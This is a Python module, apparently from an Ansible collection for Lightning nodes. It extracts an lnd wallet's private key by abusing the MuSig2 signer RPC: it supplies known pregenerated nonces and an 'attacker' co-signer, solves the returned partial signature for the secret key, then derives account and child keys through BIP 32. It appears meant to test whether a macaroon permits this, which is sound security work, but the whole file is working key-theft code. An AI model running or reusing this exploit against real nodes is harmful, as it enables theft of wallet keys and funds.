# Copyright: (c) 2026, noncustodial.lightning contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The private key computed from a partial signature of MuSig2 (BIP 327) whose secret nonces are known, as lnd's
MuSig2CreateSession takes them.
"""

from __future__ import annotations

import hashlib
import hmac
import typing as t

from ecdsa import SECP256k1
from ecdsa.ellipticcurve import PointJacobi

from ansible_collections.noncustodial.lightning.plugins.module_utils._grpc.client import Client
from ansible_collections.noncustodial.lightning.plugins.module_utils._keys import bip32

_G = SECP256k1.generator
_N: int = SECP256k1.order
# The other signer of the session is the attacker, whose key this is. Any numbers will do for it and for the nonces.
_OTHER_KEY = 7
_NONCES, _OTHER_NONCES = (1111, 2222), (3333, 4444)
_MESSAGE = hashlib.sha256(b"of this test alone").digest()


def stolen_key(client: Client, family: int, index: int, public_key: bytes) -> int:
    """Return the private key of a place in the wallet, computed from the answers to two calls.

    Args:
        client: calls the signer with the macaroon that is to be tried.
        family, index: the place (lnd: KeyLocator).
        public_key: of that place, compressed, which the provider knows by the accounts.

    Raises:
        Denied: the macaroon does not allow it.
    """
    keys = sorted([public_key, _bytes(_G * _OTHER_KEY)])
    session = client.call(
        "signrpc.Signer/MuSig2CreateSession",
        key_loc={"key_family": family, "key_index": index},
        all_signer_pubkeys=keys,
        other_signer_public_nonces=[b"".join(_bytes(_G * nonce) for nonce in _OTHER_NONCES)],
        version=2,
        pregenerated_local_nonce=b"".join(nonce.to_bytes(32, "big") for nonce in _NONCES) + public_key,
    )
    answer = client.call("signrpc.Signer/MuSig2Sign", session_id=session.session_id, message_digest=_MESSAGE)
    return _solved(int.from_bytes(answer.local_partial_signature, "big"), keys, public_key)


def account_key(private_key: int, account: bip32.ExtendedPublicKey, index: int) -> int:
    """Return the private key of an account, from that of its key /0/INDEX: below an account nothing is hardened (BIP
    32).
    """
    branch = bip32.derive(account, 0)
    chain_code, first = _step(account.chain_code, account.key, 0)
    _chain_code, second = _step(chain_code, branch, index)
    return (private_key - first - second) % _N


def child_key(account_private_key: int, account: bip32.ExtendedPublicKey, index: int) -> int:
    """Return the private key /0/INDEX of an account (BIP 32, CKDpriv)."""
    return (account_private_key - account_key(0, account, index)) % _N


def public(private_key: int) -> bytes:
    """Return the public key of a private one, compressed."""
    return _bytes(_G * private_key)


def _solved(partial: int, keys: t.Sequence[bytes], public_key: bytes) -> int:
    """Solve s = ±(k1 + b·k2) + e·a·g·d for d."""
    coefficients = [
        1 if key == _second(keys) else _number("KeyAgg coefficient", _tagged("KeyAgg list", *keys), key) for key in keys
    ]
    combined = _sum(_point(key) * coefficient for key, coefficient in zip(keys, coefficients, strict=True))
    nonces = [_G * (mine + other) for mine, other in zip(_NONCES, _OTHER_NONCES, strict=True)]
    blinder = _number("MuSig/noncecoef", *map(_bytes, nonces), _x(combined), _MESSAGE)
    nonce = nonces[0] + nonces[1] * blinder
    challenge = _number("BIP0340/challenge", _x(nonce), _x(combined), _MESSAGE)
    secret = (_NONCES[0] + blinder * _NONCES[1]) * _sign(nonce)
    factor = challenge * coefficients[keys.index(public_key)] * _sign(combined)
    return (partial - secret) * pow(factor, -1, _N) % _N


def _second(keys: t.Sequence[bytes]) -> bytes:
    return next(key for key in keys if key != keys[0])


def _sum(points: t.Iterable[PointJacobi]) -> PointJacobi:
    first, *others = points
    for other in others:
        first = first + other
    return first


def _sign(point: PointJacobi) -> int:
    return -1 if point.y() & 1 else 1


def _x(point: PointJacobi) -> bytes:
    return _bytes(point)[1:]


def _bytes(point: PointJacobi) -> bytes:
    return bytes(point.to_bytes("compressed"))


def _point(key: bytes) -> PointJacobi:
    return PointJacobi.from_bytes(SECP256k1.curve, key, valid_encodings=("compressed",))


def _tagged(tag: str, *parts: bytes) -> bytes:
    """Return a tagged hash (BIP 340)."""
    prefix = hashlib.sha256(tag.encode()).digest()
    return hashlib.sha256(prefix + prefix + b"".join(parts)).digest()


def _number(tag: str, *parts: bytes) -> int:
    return int.from_bytes(_tagged(tag, *parts), "big") % _N


def _step(chain_code: bytes, public_key: bytes, index: int) -> tuple[bytes, int]:
    digest = hmac.new(chain_code, public_key + index.to_bytes(4, "big"), hashlib.sha512).digest()
    return digest[32:], int.from_bytes(digest[:32], "big")
